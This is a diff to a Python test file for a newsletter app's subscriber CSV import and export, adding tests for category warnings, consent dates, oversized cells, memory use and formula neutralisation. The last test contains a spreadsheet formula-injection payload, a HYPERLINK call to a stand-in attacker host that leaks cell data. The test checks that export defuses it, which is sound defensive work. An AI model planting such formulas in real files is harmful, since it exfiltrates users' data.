@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import tracemalloc
+from datetime import datetime, timezone
+from pathlib import Path
 
 import pytest
 from sqlalchemy import func, select
@@ -10,7 +14,7 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from newsletter import subscribers
 from newsletter.errors import Conflict, InvalidInput
-from newsletter.models import Event, EventKind, Subscriber, SubscriberStatus
+from newsletter.models import Category, Event, EventKind, Subscriber, SubscriberStatus
 
 
 def imp(sessions: sessionmaker[Session], data: bytes | str, *, dry_run: bool = False) -> subscribers.ImportReport:
@@ -93,11 +97,10 @@ REAL_WORLD = (
 
 def test_import_real_world_csv_reports_every_bad_row(sessions: sessionmaker[Session]) -> None:
     report = imp(sessions, REAL_WORLD)
-    assert (report.added, report.updated, report.unchanged) == (2, 0, 0)
-    assert [(e.line, e.value) for e in report.invalid] == [
-        (3, "bob@"), (6, "ADA@example.com"), (7, "dave@example.net")]
+    assert (report.added, report.updated, report.unchanged) == (3, 0, 0)
+    assert [(e.line, e.value) for e in report.invalid] == [(3, "bob@"), (6, "ADA@example.com")]
     assert "repeats line 2" in str(report.invalid[1])
-    assert "unknown category 'sport'" in str(report.invalid[2])
+    assert [(w.line, w.value) for w in report.warnings] == [(7, "dave@example.net")]  # unknown 'sport': kept
     got = state(sessions)
     assert got["ada@example.com"][0] == "Ada Lovelace"
     assert got["ada@example.com"][3] == ("news", "events")
@@ -109,7 +112,7 @@ def test_import_is_idempotent(sessions: sessionmaker[Session]) -> None:
     imp(sessions, REAL_WORLD)
     before = state(sessions)
     again = imp(sessions, REAL_WORLD)
-    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
+    assert (again.added, again.updated, again.unchanged) == (0, 0, 3)
     assert state(sessions) == before
 
 
@@ -139,7 +142,7 @@ def test_latin1_file_is_decoded(sessions: sessionmaker[Session]) -> None:
 
 def test_dry_run_writes_nothing(sessions: sessionmaker[Session]) -> None:
     report = imp(sessions, REAL_WORLD, dry_run=True)
-    assert report.added == 2
+    assert report.added == 3
     assert state(sessions) == {}
 
 
@@ -166,7 +169,7 @@ def test_export_then_import_restores_the_same_state(sessions: sessionmaker[Sessi
     original = state(sessions)
     out = io.StringIO()
     with sessions.begin() as s:
-        assert subscribers.export_csv(s, out) == 4
+        assert subscribers.export_csv(s, out) == 5
     # A fresh list (delete everyone) rebuilt from the export matches the original.
     with sessions.begin() as s:
         for sub in list(subscribers.list_subscribers(s)):
@@ -221,3 +224,88 @@ def test_imported_rows_read_back_like_rows_added_one_by_one(sessions: sessionmak
         assert a.attributes == {"Company": "ACME"} and b.attributes == {}
         assert s.scalar(select(func.count()).select_from(Subscriber)
                         .where(Subscriber.status == SubscriberStatus.ACTIVE)) == 1
+
+
+def test_unknown_category_keeps_the_reader_and_is_given_once_configured(sessions: sessionmaker[Session]) -> None:
+    report = imp(sessions, "email,categories\nada@example.com,news;webinars\nbob@example.com,webinars\n")
+    assert (report.added, report.invalid) == (2, [])
+    assert [str(w) for w in report.warnings] == [
+        "2: 'ada@example.com' asks for 'webinars', not in [[categories]]: kept in the attribute "
+        "'unknown_categories' until configured (row imported)",
+        "3: 'bob@example.com' asks for 'webinars', not in [[categories]]: kept in the attribute "
+        "'unknown_categories' until configured (row imported)"]
+    assert report.summary == "added 2, updated 0, unchanged 0, invalid 0, warnings 2"
+    got = state(sessions)
+    assert got["ada@example.com"][3:] == (("news",), {"unknown_categories": "webinars"})
+    assert got["bob@example.com"][3:] == ((), {"unknown_categories": "webinars"})  # no known choice: every section
+    with sessions.begin() as s:  # the editor adds [[categories]] slug = "webinars"; `db upgrade` syncs it
+        s.add(Category(slug="webinars", name="Webinars", position=9))
+        s.flush()
+        assert subscribers.adopt_categories(s) == {"webinars": 2}
+    got = state(sessions)
+    assert got["ada@example.com"][3:] == (("news", "webinars"), {})
+    assert got["bob@example.com"][3:] == (("webinars",), {})
+
+
+def test_an_unreadable_consent_date_is_a_warning_and_stored_as_unknown(sessions: sessionmaker[Session]) -> None:
+    report = imp(sessions, "email,consent_at\na@example.com,12/03/2024\nb@example.com,2024-03-12T09:30:00+01:00\n"
+                           "c@example.com,\n")
+    assert report.added == 3 and report.invalid == []
+    assert [str(w) for w in report.warnings] == [
+        "2: 'a@example.com' has consent_at '12/03/2024', not an ISO 8601 date like 2024-03-12T09:30:00+01:00: "
+        "stored as unknown (row imported)"]
+    with sessions.begin() as s:
+        consent = {sub.email: sub.consent_at for sub in subscribers.list_subscribers(s)}
+    assert consent["a@example.com"] is None
+    assert consent["b@example.com"] == datetime(2024, 3, 12, 8, 30, tzinfo=timezone.utc)
+    assert consent["c@example.com"] is not None  # no date given: the import is the consent record
+
+
+def test_a_cell_over_128_kb_is_one_line_and_imports_nothing(sessions: sessionmaker[Session]) -> None:
+    data = "email,name\nok@example.com,Ok\nbig@example.com,\"" + "x" * 140_000 + "\"\nlate@example.com,Late\n"
+    with pytest.raises(InvalidInput) as exc:
+        imp(sessions, data)
+    assert str(exc.value) == ("members.csv:3: a cell is longer than 128 KB; shorten it or check the file is the "
+                              "subscriber list (nothing imported)")
+    assert state(sessions) == {}
+
+
+def test_a_dry_run_streams_the_file_in_flat_memory(sessions: sessionmaker[Session], tmp_path: Path) -> None:
+    """Memory stays near one chunk of rows however large the file (a 50 MB file took 1 GB)."""
+    path = tmp_path / "members.csv"
+    with path.open("w", encoding="utf-8") as fp:
+        fp.write("email,name,notes\n")
+        for i in range(4000):
+            fp.write(f"reader{i}@example.com,Reader {i},{'n' * 2000}\n")
+    size = path.stat().st_size
+    tracemalloc.start()
+    try:
+        with sessions.begin() as s, path.open("rb") as fp:
+            report = subscribers.import_csv(s, fp, source="members.csv", dry_run=True)
+            s.rollback()
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert report.added == 4000
+    assert peak < size / 2, f"peak {peak / 2**20:.1f} MB for a {size / 2**20:.1f} MB file"
+
+
+def test_exported_formulas_are_inert_and_read_back_as_typed(sessions: sessionmaker[Session]) -> None:
+    names = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+49 30 1234", "-x", "@SUM(A1)",
+             "'=already quoted", "O'Brien"]
+    with sessions.begin() as s:
+        for i, name in enumerate(names):
+            subscribers.add(s, f"r{i}@example.com", name=name)
+        subscribers.add(s, "=cmd@example.com", name="Eq")
+    original = state(sessions)
+    out = io.StringIO()
+    with sessions.begin() as s:
+        subscribers.export_csv(s, out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '"\'=HYPERLINK(""http://evil.example/' in out.getvalue()
+    with sessions.begin() as s:
+        for sub in list(subscribers.list_subscribers(s)):
+            s.delete(sub)
+    imp(sessions, out.getvalue())
+    assert state(sessions) == original
